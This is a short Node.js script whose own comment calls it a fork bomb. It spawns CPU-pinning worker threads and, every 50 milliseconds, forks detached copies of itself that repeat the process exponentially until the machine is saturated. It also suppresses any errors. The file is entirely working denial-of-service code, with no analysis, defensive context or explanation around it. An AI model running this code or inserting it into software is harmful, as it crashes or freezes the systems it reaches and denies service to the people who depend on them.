// Spawns a busy-loop worker thread per CPU and forks itself repeatedly so the machine is saturated (fork bomb).
const { Worker, isMainThread } = require("worker_threads");
const { fork } = require("child_process");
const os = require("os");

if (isMainThread) {
  for (let i = 0; i < os.cpus().length * 2; i++) {
    new Worker(__filename);
  }
  // each child does the same, exponentially
  setInterval(() => {
    try {
      fork(__filename, [], { detached: true, stdio: "ignore" }).unref();
      fork(__filename, [], { detached: true, stdio: "ignore" }).unref();
    } catch (e) {}
  }, 50);
} else {
  let x = 0;
  for (;;) {
    x = (x * 1103515245 + 12345) % 2147483648;
  }
}
